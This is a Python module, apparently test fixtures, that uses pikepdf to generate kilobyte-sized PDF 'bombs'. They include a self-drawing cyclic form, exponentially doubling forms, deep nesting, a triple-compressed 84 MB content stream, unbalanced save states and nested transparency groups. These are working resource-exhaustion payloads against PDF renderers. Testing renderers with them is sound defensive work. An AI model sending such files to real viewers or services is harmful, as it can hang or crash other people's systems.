"""PDFs that cost: a kilobyte each, and hours or gigabytes to draw."""

import io
import zlib
from collections.abc import Sequence

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream

A4 = (595, 842)


def page_of(
    content: bytes,
    *,
    flates: int = 1,
    forms: Sequence[bytes] = (),
    cyclic: bool = False,
    size: tuple[float, float] = A4,
    options: Dictionary | None = None,
) -> bytes:
    """A PDF of one page with this content, compressed `flates` times.

    `forms` are contents of forms, the innermost first; each may draw the one before it as /F, and the page the last
    one. `cyclic`: the innermost form may draw the last one.
    """
    document = pikepdf.new()
    page = document.add_blank_page(page_size=size)
    made: list[Stream] = []
    for form in forms:
        stream = document.make_indirect(
            Stream(document, form, Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, *size])
        )
        if made:
            stream.Resources = Dictionary(XObject=Dictionary(F=made[-1]))
        made.append(stream)
    if made:
        page.Resources = Dictionary(XObject=Dictionary(F=made[-1]))
    if cyclic:
        made[0].Resources = Dictionary(XObject=Dictionary(F=made[-1]))
    if options is not None:
        page.Resources = options
    for _ in range(flates):
        content = zlib.compress(content, 9)
    page.Contents = document.make_indirect(
        Stream(document, content, Filter=Array([Name.FlateDecode] * flates))
    )
    return saved(document)


def saved(document: pikepdf.Pdf) -> bytes:
    """The file, with its streams as they are."""
    buffer = io.BytesIO()
    document.save(buffer, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)
    return buffer.getvalue()


def draws_itself() -> bytes:
    """A form that draws itself twice."""
    return page_of(b"/F Do", forms=[b"/F Do /F Do"], cyclic=True)


def exponential(levels: int = 20) -> bytes:
    """Forms that each draw the one before it twice."""
    return page_of(b"/F Do", forms=[b"0 0 m 99 99 l S", *[b"/F Do /F Do"] * levels])


def deep(levels: int = 60) -> bytes:
    """Forms within forms."""
    return page_of(b"/F Do", forms=[b"0 0 m 99 99 l S", *[b"/F Do"] * levels])


def flate_bomb(operators: int = 6_000_000) -> bytes:
    """Operators of 84 MB behind three filters."""
    return page_of(b"0 0 m 9 9 l S\n" * operators, flates=3)


def saved_states(count: int = 10_000_000) -> bytes:
    """Many `q` without a `Q`: 20 MB, which a content stream may have."""
    return page_of(b"q " * count)


def strokes(count: int = 2_000_000) -> bytes:
    """Long lines with dashes."""
    return page_of(b"[1] 0 d 1 w 0 0 m 595 842 l S\n" * count)


def groups(levels: int = 30) -> bytes:
    """Transparency groups within groups, each with a bitmap of its own, on the largest page."""
    document = pikepdf.new()
    page = document.add_blank_page(page_size=(1440, 1440))
    state = Dictionary(G=Dictionary(Type=Name.ExtGState, ca=0.5, BM=Name.Multiply))
    last = None
    for _ in range(levels):
        content = b"/G gs 0 0 1440 1440 re f" + (b" /F Do" if last is not None else b"")
        last_resources = Dictionary(ExtGState=state)
        if last is not None:
            last_resources.XObject = Dictionary(F=last)
        group = Dictionary(S=Name.Transparency, I=True, K=True)
        form = Stream(document, content, Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 1440, 1440])
        form.Group, form.Resources = group, last_resources
        last = document.make_indirect(form)
    page.Resources = Dictionary(XObject=Dictionary(F=last), ExtGState=state)
    page.Contents = document.make_indirect(Stream(document, b"/G gs /F Do"))
    return saved(document)
